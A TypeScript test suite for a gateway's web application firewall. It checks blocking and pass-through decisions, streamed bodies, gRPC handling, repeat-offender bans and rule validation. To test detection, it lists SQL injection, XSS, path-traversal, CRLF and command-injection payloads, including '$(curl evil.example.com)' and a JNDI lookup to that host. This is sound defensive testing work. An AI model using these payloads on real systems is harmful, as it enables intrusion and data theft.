/** What the rules take for an attack and what not, and what becomes of who keeps trying. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { visit } from '../../../../test/visitor.ts';
import { service } from '../../compute/service/index.ts';
import { type GatewayOptions, gateway } from './index.ts';
import { type Inspected, Waf } from './waf.ts';

const plainWaf = { mode: 'block', threshold: 5, core: true, inspectMaxBytes: 64_000 } as const;
const waf = new Waf({ ...plainWaf, rules: [], except: [] });
const agent = ['user-agent', 'Mozilla/5.0'];

const asked = (said: Partial<Inspected>): Inspected => ({
  method: 'GET',
  url: 'http://edge/',
  headers: agent,
  body: null,
  ...said,
});
const query = (value: string) => asked({ url: `http://edge/search?q=${value}` });
const form = (body: string) =>
  asked({
    method: 'POST',
    headers: [...agent, 'content-type', 'application/x-www-form-urlencoded'],
    body,
  });

test('finds the same in what it has seen before, and after any number of other texts', () => {
  const worn = new Waf({ ...plainWaf, rules: [], except: [] });
  const fresh = () => new Waf({ ...plainWaf, rules: [], except: [] });
  const part = fc.constantFrom(
    'a',
    "'",
    ' or ',
    '1=1',
    '<script',
    '../',
    '%27',
    ' ',
    ';',
    'cat ',
    '\0',
  );
  const text = fc.array(part, { maxLength: 5 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(text, text, text, (q, cookie, name) => {
      const request = asked({
        url: `http://edge/${q}?q=${q}&${cookie}`,
        headers: ['cookie', cookie, 'user-agent', name, 'x-name', name, 'x-other', q],
        body: cookie,
      });
      expect(worn.inspect(request)).toEqual(fresh().inspect(request));
    }),
    { numRuns: 700 },
  );
});

describe('the rules that come along', () => {
  test.each([
    ["a' UNION SELECT password FROM users--"],
    ['a%27%20union%20all%20select%201'],
    ["1'/**/UnIoN/**/SeLeCt/**/1"],
    ["' or '1'='1"],
    ['%2527%2520or%25201=1'],
    ['1 OR 1=1'],
    ["x'; DROP TABLE users; --"],
    ["1' AND sleep(5)--"],
    ["1; WAITFOR DELAY '0:0:5'"],
    ['<script>alert(1)</script>'],
    ['%3Cscript%3Ealert(1)'],
    ['%26lt;script%26gt;alert(1)'],
    ['<img src=x onerror=alert(1)>'],
    ['<svg/onload=alert(1)>'],
    ['" autofocus onfocus=alert(1) x="'],
    ['javascript:alert(1)'],
    ['%26%23106;avascript%26colon;alert(1)'],
    ['../../etc/passwd'],
    ['..%2f..%2fsecret'],
    ['%252e%252e%255cwindows'],
    ['..%c0%af..%c0%afetc'],
    ['/etc/passwd'],
    ['a%00.jpg'],
    ['x%0d%0aSet-Cookie:%20a=b'],
    ['; cat /etc/hosts'],
    ['$(curl evil.example.com)'],
    ['%24{jndi:ldap://evil.example.com}'],
  ])('refuse %s', (value) => {
    expect(waf.inspect(query(value)).score, 'in a query').toBeGreaterThanOrEqual(5);
    expect(waf.inspect(form(`a=b&q=${value}`)).score, 'in a form').toBeGreaterThanOrEqual(5);
  });

  test.each([
    ["O'Brien and O'Neill"],
    ["it's 5 o'clock or later"],
    ['select the union representative'],
    ['the student union will select a chair'],
    ['a < b and c > d'],
    ['rock & roll; cats and dogs'],
    ['C:\\Users\\ann'],
    ['version 1..2 and so on...'],
    ['how to drop a table of contents'],
    ['50% off + free shipping'],
    ['sleep (8 hours)'],
    ['{"name":"Ann","note":"likes \\"quotes\\" or commas"}'],
    ['Müller–Straße 5'],
    ['e=mc^2 #physics'],
    ['learn javascript: a guide'.replace('javascript:', 'javascript -')],
    ['onload of the truck = 5 t'],
  ])('let pass %s', (value) => {
    const requests = [query(encodeURIComponent(value)), form(`q=${encodeURIComponent(value)}`)];
    for (const one of [...requests, asked({ method: 'POST', body: value })]) {
      expect(waf.inspect(one)).toMatchObject({ matched: [] });
    }
  });

  test('know tools by their name, and hold it against nobody alone that it has none', () => {
    const named = (name: string) => waf.inspect(asked({ headers: ['user-agent', name] }));
    expect(named('sqlmap/1.7').matched).toEqual(['scanner']);
    expect(waf.inspect(asked({ headers: [] }))).toEqual({ score: 1, matched: ['no-agent'] });
  });

  test('look at paths and cookies too', () => {
    expect(waf.inspect(asked({ url: 'http://edge/a/%2e%2e/%2e%2e/b' })).matched).toEqual([
      'folder-up',
    ]);
    expect(waf.inspect(asked({ url: 'http://edge/.env' })).matched).toEqual(['file-of-the-system']);
    const cookie = ['cookie', "id=1' or '1'='1"];
    expect(waf.inspect(asked({ headers: [...agent, ...cookie] })).matched).toEqual([
      'sql-always-true',
    ]);
  });

  test('find what is encoded once more, in either way, as they find it plain', () => {
    const attacks = ['<script>', "' or '1'='1", '../../etc/passwd', "1' union select 1"];
    const once = (text: string) =>
      [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    fc.assert(
      fc.property(fc.constantFrom(...attacks), fc.integer({ min: 0, max: 2 }), (attack, times) => {
        let text = encodeURIComponent(attack);
        for (let i = 0; i < times; i++) text = i === 0 ? once(attack) : encodeURIComponent(text);
        expect(waf.inspect(query(text)).score).toBeGreaterThanOrEqual(5);
      }),
    );
  });

  test('come to an end with whatever is sent', () => {
    const pieces = fc.constantFrom(
      "'",
      '<',
      ' ',
      'or ',
      '/*',
      '*',
      'union',
      '(',
      '%',
      '&#',
      'on',
      '=',
    );
    fc.assert(
      fc.property(fc.array(pieces, { minLength: 500, maxLength: 2_000 }), (parts) => {
        const body = parts.join('');
        expect(waf.inspect(form(body.repeat(8))).score).toBeGreaterThanOrEqual(0);
      }),
      { numRuns: 10 },
    );
  });
});

const api = service('api', {
  instances: 1,
  fetch: ({ headers, url }) =>
    url.endsWith('/missing')
      ? new Response('', { status: 404 })
      : new Response(headers.get('x-waf-score') ?? 'clean'),
});
const door = (options: Partial<GatewayOptions>) =>
  visit(gateway('edge', { routes: { '/': api }, ...options }));
const attack = { url: "http://edge/?q='%20or%201=1" };

describe('a gateway with rules', () => {
  test('refuses an attack before the service sees it, or only tells the service', async () => {
    const blocking = door({ waf: {} });
    const refused = blocking.send(attack);
    await blocking.run(20_000);
    expect(blocking.status(refused)).toBe(403);
    expect(blocking.counted('api', 'requests')).toBe(0);
    expect(blocking.counted('edge', 'attacks')).toBe(1);
    const watching = door({ waf: { mode: 'detect' } });
    const marked = watching.send(attack);
    const clean = watching.send({ headers: ['x-waf-score', '0'] });
    await watching.run(20_000);
    expect(await watching.text(marked)).toBe('6');
    expect(await watching.text(clean)).toBe('clean');
  });

  test('takes rules of its own, and leaves out what does not fit', async () => {
    const waf = {
      except: ['sql-always-true'],
      rules: [{ id: 'trace', on: ['method'], transform: [], op: 'is', value: 'TRACE', score: 9 }],
    } as const;
    const at = door({ waf });
    const ids = [at.send(attack), at.send({ method: 'TRACE' })];
    await at.run(20_000);
    expect(ids.map(at.status)).toEqual([200, 403]);
  });
});

describe('a body that flows', () => {
  const post = { method: 'POST', headers: ['content-type', 'application/x-www-form-urlencoded'] };
  const union = "q=1' UNION SELECT password FROM users--";
  const echo = service('api', {
    instances: 1,
    fetch: async (request) => {
      const type = request.headers.get('content-type') ?? '';
      return new Response(await request.text(), { headers: { 'content-type': type } });
    },
  });
  const flowing = () =>
    visit(
      gateway('edge', {
        routes: { '/': echo },
        waf: {},
        bodyMax: '1MB',
        policy: { timeout: '1min' },
      }),
    );
  const call = { method: 'POST', headers: ['content-type', 'application/grpc'] };
  const nothing = () => {};
  const events = { data: nothing, closed: nothing };

  test.each([
    ['with far more behind the attack than is looked at', [union, `&z=${'a'.repeat(300_000)}`]],
    ['with an attack that comes in pieces of one byte', [...union]],
    [
      'with an attack behind so many of them that their credit is used up',
      [...'a=b&'.repeat(7_500), union],
    ],
  ])('is refused %s', async (_, chunks) => {
    const at = flowing();
    const { id, stream } = at.open(post, events);
    for (const chunk of chunks) stream.write(chunk);
    await at.run(50_000);
    // What is looked at may have an end that has not come yet.
    stream.end();
    await at.run(5_000_000);
    expect(at.status(id)).toBe(403);
    expect(at.counted('api', 'requests')).toBe(0);
  });

  test('waits for what is looked at, and passes whole and in order', async () => {
    const at = flowing();
    const { id, stream } = at.open(post, events);
    stream.write('first=1&');
    await at.run(200_000);
    expect(at.counted('api', 'requests')).toBe(0);
    const rest = ['second=2&', ...new Array<string>(60).fill(`z=${'ü'.repeat(5_000)}&`), 'end=1'];
    for (const chunk of rest) stream.write(chunk);
    await at.run(5_000_000);
    expect(at.counted('api', 'requests')).toBe(1);
    stream.end();
    await at.run(5_000_000);
    expect(await at.text(id)).toBe(`first=1&${rest.join('')}`);
  });

  test('is given up with its client', async () => {
    const at = flowing();
    const { id, stream } = at.open(post, events);
    stream.write(union);
    await at.run(20_000);
    at.cancel(id);
    stream.reset();
    await at.run(200_000);
    expect(at.counted('edge', 'abandoned')).toBe(1);
    expect(at.counted('edge', 'attacks')).toBe(0);
    expect(at.counted('api', 'requests')).toBe(0);
  });

  test('of gRPC goes on at once', async () => {
    const at = flowing();
    const { id, stream } = at.open(call, events);
    await at.run(20_000);
    expect(at.counted('api', 'requests')).toBe(1);
    stream.write(new Uint8Array([0, 0, 0, 0, 0]));
    stream.end();
    await at.run(200_000);
    expect(at.status(id)).toBe(200);
    expect(at.counted('edge', 'refused')).toBe(0);
  });

  test('is refused when it calls itself gRPC and begins as none', async () => {
    const at = flowing();
    const { stream } = at.open(call, events);
    stream.write(union);
    await at.run(200_000);
    expect(at.counted('edge', 'attacks')).toBe(1);
    expect(at.counted('edge', 'refused')).toBe(1);
  });
});

test('who is refused again and again is shut out for a time, and nobody else', async () => {
  const at = door({ flood: { strikes: 3, within: '1min', ban: '2min' } });
  const ask = async (ip: string, path: string) => {
    const id = at.send({ ip, url: `http://edge${path}` });
    await at.run(20_000);
    return at.status(id);
  };
  const bad: (number | undefined)[] = [];
  for (let i = 0; i < 6; i++) bad.push(await ask('20.0.0.1', '/missing'));
  expect(bad).toEqual([404, 404, 404, 404, 403, 403]);
  expect(await ask('20.0.0.1', '/')).toBe(403);
  expect(await ask('20.0.0.2', '/')).toBe(200);
  expect(at.counted('edge', 'bans')).toBe(1);
  await at.run(121_000_000);
  expect(await ask('20.0.0.1', '/')).toBe(200);
});

test('rules that cannot be are told all at once', () => {
  const options = {
    routes: { '/': api },
    waf: {
      threshold: 0,
      except: ['nothing'],
      rules: [
        { id: 'scanner', on: ['soul'], transform: ['rot13'], op: 'feels', value: 1, score: 0 },
        { id: 'a', on: ['path'], transform: [], op: 'matches', value: '(', score: 1 },
        { id: 'b', on: ['path'], transform: [], op: 'longer', value: 'x', score: 1 },
        null,
      ],
    },
    flood: { ban: '0s' },
  };
  const { problems } = gateway('edge', options as unknown as GatewayOptions);
  expect(problems.map(({ at }) => at)).toEqual([
    'edge.waf.threshold',
    ...new Array<string>(6).fill('edge.waf.rules[0]'),
    'edge.waf.rules[1]',
    'edge.waf.rules[2]',
    'edge.waf.rules[3]',
    'edge.waf.except',
    'edge.flood.ban',
  ]);
});
